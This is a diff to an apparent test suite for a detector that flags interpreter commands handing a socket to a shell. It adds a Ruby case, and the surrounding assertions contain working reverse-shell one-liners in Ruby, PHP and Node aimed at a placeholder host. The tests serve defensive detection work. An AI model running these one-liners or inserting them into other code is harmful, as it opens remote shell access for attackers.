@@ -35,6 +35,8 @@ describe('interpreter code handing a socket to a shell', () => {
     expect(io(['ruby', '-rsocket', '-e', `f=TCPSocket.open("${H}",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`])).toEqual(['shell sh']);
     expect(io(['ruby', '-rsocket', '-e', `exit if fork;c=TCPSocket.new("${H}","4242");loop{c.gets.chomp!;(exit! if $_=="exit");($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts "failed: #{$_}"}`])).toEqual(['shell ruby']);
     expect(io(['ruby', '-rsocket', '-e', `c=TCPSocket.new("${H}",4242);spawn("/bin/sh","-i",in: c,out: c,err: c)`])).toEqual(['shell sh']);
+    // The socket a block is given (`{ |c| … }`).
+    expect(io(['ruby', '-rsocket', '-e', `TCPSocket.open("${H}",4242) { |c| spawn("/bin/sh","-i",in: c,out: c,err: c) }`])).toEqual(['shell sh']);
     expect(io(['php', '-r', `$sock=fsockopen("${H}",1234);exec("/bin/sh -i <&3 >&3 2>&3");`])).toEqual(['shell sh']);
     expect(io(['php', '-r', `$sock=fsockopen("${H}",4242);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);`])).toEqual(['shell sh']);
     expect(io(['node', '-e', `var n=require("net"),c=require("child_process"),s=new n.Socket();s.connect(4444,"${H}",function(){var sh=c.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);});`])).toEqual(['shell sh']);
